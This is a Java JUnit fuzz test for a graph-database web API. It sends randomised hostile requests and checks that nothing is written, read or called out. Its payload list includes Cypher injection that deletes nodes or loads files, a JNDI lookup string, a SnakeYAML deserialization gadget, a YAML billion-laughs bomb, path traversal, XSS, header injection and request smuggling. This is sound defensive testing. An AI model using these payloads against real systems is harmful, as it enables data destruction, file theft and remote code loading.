package dev.parley.web;

import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.StreamSupport;

import dev.parley.Article;
import dev.parley.GraphDump;
import dev.parley.OnTheArticle;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Requests made by chance from what attackers send: writing, loading files and calling
 * procedures through every parameter, tricks with comments, quotes, backticks and paths,
 * broken, endless and deeply nested YAML and JSON, and bytes that are no HTTP. Whatever
 * comes, nothing fails inside, nothing is written, no file is read, and nobody outside is
 * called. {@code -Drequests=10000} sends as many; {@code -Dseed=} repeats a run.
 */
@Tag("thorough")
@Timeout(value = 1, unit = TimeUnit.HOURS)
class HostileRequestTests extends OnTheArticle {

	private static final int REQUESTS = Integer.getInteger("requests", 500);

	private static final long SEED = Long.getLong("seed", System.nanoTime());

	private static final String SECRET = "the-file-was-read";

	private final Random random = new Random(SEED);

	private List<Address> questions = List.of();

	private List<String> values = List.of();

	/** Where a question is, and what it takes. */
	private record Address(String path, List<String> parameters, Map<String, String> examples) {
	}

	@Test
	void changeReadAndReachNothing(@TempDir Path folder) throws IOException {
		Path secret = Files.writeString(folder.resolve("secret.csv"), SECRET);
		questions = questions();
		var called = new AtomicInteger();
		try (var outside = new ServerSocket(0, 50, InetAddress.getLoopbackAddress())) {
			listen(outside, called);
			values = values(secret, outside.getLocalPort());
			List<String> before = GraphDump.now();
			Map<Integer, Integer> statuses = new TreeMap<>();
			for (int i = 0; i < REQUESTS; i++) {
				String request = request();
				Answer answer = RawHttp.send(1 + i % 200, http().port(), request.getBytes(StandardCharsets.ISO_8859_1));
				statuses.merge(answer.status(), 1, Integer::sum);
				assertThat(answer.status()).as("seed %d, request %d: %s%n%s", SEED, i, shown(request), answer.text())
					.isBetween(0, 499);
				assertThat(answer.text()).as(shown(request)).doesNotContain(SECRET);
			}
			System.out.println(REQUESTS + " hostile requests, by status (0 is a closed connection): " + statuses);
			assertThat(GraphDump.now()).isEqualTo(before);
			assertThat(called).hasValue(0);
			assertThat(http().get("/api/queries").status()).isEqualTo(200);
		}
	}

	private List<Address> questions() {
		List<Address> addresses = new ArrayList<>();
		for (JsonNode question : http().get("/api/queries").ok().json()) {
			Map<String, String> examples = new TreeMap<>();
			question.get("parameters")
				.forEach((parameter) -> examples.put(parameter.get("name").asString(),
						parameter.get("example").asString()));
			addresses.add(new Address("/api/queries/" + question.get("query").asString(),
					StreamSupport.stream(question.get("parameters").spliterator(), false)
						.map((parameter) -> parameter.get("name").asString())
						.toList(),
					examples));
		}
		return addresses;
	}

	private static List<String> values(Path secret, int port) {
		String outside = "http://127.0.0.1:" + port + "/";
		return List.of("x' OR 1=1 //", "x\" }) DETACH DELETE n //", "') MATCH (n) DETACH DELETE n //",
				"1; MATCH (n) DETACH DELETE n", "/* */ CREATE (:Actor {id: 'evil'}) /*", "`}) CREATE (:Evil) //`",
				"LOAD CSV FROM '" + secret.toUri() + "' AS line RETURN line", "LOAD CSV FROM '" + outside + "' AS l",
				"CALL apoc.load.json('" + outside + "')", "CALL dbms.listConfig()", "CALL db.clearQueryCaches()",
				"$limit", "{limit}", "${jndi:ldap://127.0.0.1:" + port + "/a}", "#{7*7}", "${7*7}", "{{7*7}}",
				"%s%s%s%n", "../../../../etc/passwd", secret.toString(), secret.toUri().toString(), outside,
				"<script>alert(1)</script>", "javascript:alert(1)", "\u0000", "a\u0000b", "\r\nSet-Cookie: a=b",
				"\u202e\u0000\ufeff", "\ud83d\ude00".repeat(50), "9".repeat(400), "-1", "0", "1e309", "NaN", "Infinity",
				"0x7fffffff", "9223372036854775808", "-9223372036854775809", "1/0", "null", "true", "[]", "{}",
				"[" + "[".repeat(500), "2025-02-30", "0000-00-00", "+999999999-12-31", "2025-03-20T00:00:00Z",
				"9999999999-01-01", "P1000000000Y", "a".repeat(3000), "*", "a*b~5", "AND OR NOT", "\"unclosed",
				"(a OR (b AND (c", "name:/.*/", "_exists_:name", "a^99999999999", "[* TO *]", "\\", "\\\\", "'", "ı",
				"ﬀ", "é", "\u0301".repeat(200), " ", "", "\t", "+", "%", "%2", "%zz", "%c0%ae", "%00", "&", ";",
				"a&limit=99999", "limit", "energy-truce-2025'--", "uae/../russia");
	}

	private String request() {
		return switch (random.nextInt(10)) {
			case 0, 1, 2, 3 -> get(questioned());
			case 4 -> get(pick(List.of("/api/actors/", "/api/claims/", "/api/agreements/", "/api/documents/",
					"/api/queries/", "/api/", "/thing/", "/browser/", "/swagger-ui/", "/schemas/", "/webjars/",
					"/page/", "/actuator/", "/api/dossiers/", "/api/sources/")) + segment());
			case 5 -> get(pick(List.of("/api/search?q=", "/api/actors?page=", "/api/actors?size=", "/api/actors?after=",
					"/api/actors/uae/claims?size=", "/?", "/api-docs?", "/api/audit?limit=")) + parameter());
			case 6, 7 -> dossier();
			case 8 -> otherMethod();
			default -> noHttp();
		};
	}

	/** A question with its examples, but for what is hostile. */
	private String questioned() {
		Address question = pick(questions);
		Map<String, String> given = new TreeMap<>();
		question.examples()
			.forEach((name, example) -> given.put(name, URLEncoder.encode(example, StandardCharsets.UTF_8)));
		given.put(random.nextInt(8) == 0 || question.parameters().isEmpty() ? parameter() : pick(question.parameters()),
				parameter());
		StringBuilder query = new StringBuilder();
		given
			.forEach((name, value) -> query.append(query.isEmpty() ? "?" : "&").append(name).append('=').append(value));
		String suffix = pick(
				List.of("", "", "", ".csv", ".ndjson", ".graphml", ".gexf", ".jsonld", ".xml", ".csv.csv"));
		return question.path() + suffix + query;
	}

	/** Encoded as it should be, or as it should not. */
	private String parameter() {
		String value = pick(values);
		return switch (random.nextInt(6)) {
			case 0 -> value;
			case 1 -> URLEncoder.encode(URLEncoder.encode(value, StandardCharsets.UTF_8), StandardCharsets.UTF_8);
			default -> URLEncoder.encode(value, StandardCharsets.UTF_8);
		};
	}

	private String segment() {
		return switch (random.nextInt(5)) {
			case 0 -> "../".repeat(1 + random.nextInt(8)) + "etc/passwd";
			case 1 -> "%2e%2e%2f".repeat(1 + random.nextInt(8)) + "etc%2fpasswd";
			case 2 -> "..;/" + "..%5c".repeat(random.nextInt(4)) + parameter();
			case 3 -> "/".repeat(random.nextInt(5)) + ";jsessionid=1/" + parameter();
			default -> parameter() + pick(List.of("", "/claims", "/", "//", "%00", ".csv", "/loads"));
		};
	}

	private String get(String address) {
		String accept = random.nextInt(5) > 0 ? "*/*" : pick(List.of("application/json", "text/csv", "text/html",
				"application/x-ndjson", "application/graphml+xml", "a/b;q=9", "x".repeat(300), "*/*;q=0", ",,,;;"));
		String tag = pick(List.of("*", "\"a\"", "W/", "\"".repeat(50), "\"a\",".repeat(100)));
		return head("GET", address, "Accept: " + accept + "\r\nIf-None-Match: " + tag) + "\r\n";
	}

	/**
	 * Only rehearsed where somebody may write, since chance may make one that is whole.
	 */
	private String dossier() {
		String body = mutated();
		String address = "/api/dossiers?rehearse=true";
		String credentials = "Authorization: " + http().authorization();
		if (random.nextInt(3) == 0) {
			address = "/api/dossiers";
			credentials = pick(List.of("X: y", "Authorization: Bearer", "Authorization: Bearer " + parameter(),
					"Authorization: Basic " + parameter(), "Authorization: Basic YTpi", "Authorization: Digest x"));
		}
		return head("POST", address, credentials + "\r\nContent-Type: "
				+ pick(List.of("application/yaml", "application/yaml", "application/yaml", "application/json",
						"text/plain", "application/yaml; charset=utf-16", "application/yaml; charset=none", "a"))
				+ "\r\nContent-Length: " + length(body)) + "\r\n" + body;
	}

	private int length(String body) {
		return random.nextInt(20) == 0 ? random.nextInt(1000) : body.length();
	}

	private String mutated() {
		String yaml = Article.yaml();
		int at = random.nextInt(yaml.length());
		return switch (random.nextInt(12)) {
			case 0 -> yaml.substring(0, at);
			case 1 -> yaml.substring(0, at) + pick(values) + yaml.substring(at);
			case 2 ->
				yaml.substring(0, at) + (char) random.nextInt(256) + yaml.substring(Math.min(at + 1, yaml.length()));
			case 3 ->
				yaml.replaceFirst("value: \\d+", "value: " + pick(values).replace("\\", "\\\\").replace("$", "\\$"));
			case 4 -> yaml.replaceFirst("publishedOn: \\S+",
					"publishedOn: " + pick(values).replace("\\", "\\\\").replace("$", "\\$"));
			case 5 -> "[".repeat(50_000);
			case 6 -> "a: ".repeat(20_000);
			case 7 -> bomb();
			case 8 -> yaml.replaceFirst("title:", "? [" + "{a: ".repeat(3000) + "\ntitle:");
			case 9 ->
				"!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://127.0.0.1/\"]]]]";
			case 10 -> "---\n".repeat(5000) + yaml;
			default -> "{\"a\":".repeat(20_000) + "1" + "}".repeat(random.nextInt(20_000));
		};
	}

	/** Each line nine times the one before. */
	private static String bomb() {
		StringBuilder yaml = new StringBuilder("a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
		for (int i = 1; i < 12; i++) {
			yaml.append("a%d: &a%1$d [%s]\n".formatted(i, ("*a" + (i - 1) + ", ").repeat(9)));
		}
		return yaml.toString();
	}

	private String otherMethod() {
		String method = pick(List.of("PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "POST",
				"HEAD", "get", "G\u0000T"));
		String address = pick(List.of("/api/dossiers", "/api/dossiers/" + Article.ID, "/api/sources/ucdp-ged",
				"/api/sources/ucdp-ged/loads", "/api/actors/uae", "/api/queries/claims/disputed", "/", "*",
				"http://127.0.0.1:1/", "/actuator/shutdown"));
		String override = pick(List.of("X-HTTP-Method-Override: DELETE", "X-Original-URL: /api/dossiers/" + Article.ID,
				"Origin: http://evil.example", "Access-Control-Request-Method: DELETE\r\nOrigin: http://evil.example",
				"X-Forwarded-Host: evil.example", "Cookie: JSESSIONID=" + "a".repeat(200), "Expect: 100-continue",
				"Range: bytes=0-1,2-3,4-5", "Content-Type: text/csv"));
		return head(method, address, override + "\r\nContent-Length: 0") + "\r\n";
	}

	private String noHttp() {
		return switch (random.nextInt(7)) {
			case 0 -> "\u0016\u0003\u0001\u0002\u0000\u0001\r\n\r\n";
			case 1 -> "GET /" + "a".repeat(20_000) + " HTTP/1.1\r\nHost: localhost\r\n\r\n";
			case 2 -> head("GET", "/api/queries", "X: " + "a".repeat(20_000)) + "\r\n";
			case 3 -> head("GET", "/api/queries", "X: y\r\n".repeat(500)) + "\r\n";
			case 4 -> "GET /api/queries HTTP/9.9\r\nHost: localhost\r\nHost: evil\r\n\r\n";
			case 5 -> head("POST", "/api/dossiers",
					"Transfer-Encoding: chunked\r\nContent-Length: 4\r\nContent-Type: application/yaml")
					+ "\r\nfffffffffffffffff\r\nabc";
			default -> pick(values) + "\r\n\r\n";
		};
	}

	private String head(String method, String address, String headers) {
		String host = random.nextInt(30) == 0 ? pick(List.of("evil.example", "", "localhost@evil", "[::1]"))
				: "localhost:" + http().port();
		return method + " " + bytes(address) + " HTTP/1.1\r\nHost: " + host + "\r\nConnection: close\r\n" + headers
				+ "\r\n";
	}

	/** As UTF-8, one character for each byte. */
	private static String bytes(String text) {
		return new String(text.getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1);
	}

	private <T> T pick(List<T> from) {
		return from.get(random.nextInt(from.size()));
	}

	private static String shown(String request) {
		return request.length() > 2000 ? request.substring(0, 2000) + " …" : request;
	}

	private static void listen(ServerSocket outside, AtomicInteger called) {
		var listener = new Thread(() -> {
			while (!outside.isClosed()) {
				try {
					outside.accept().close();
					called.incrementAndGet();
				}
				catch (IOException ex) {
					return;
				}
			}
		});
		listener.setDaemon(true);
		listener.start();
	}

	/**
	 * What came back.
	 *
	 * @param status the status code, or 0 if the connection was closed
	 * @param text all of it
	 */
	record Answer(int status, String text) {
	}

}
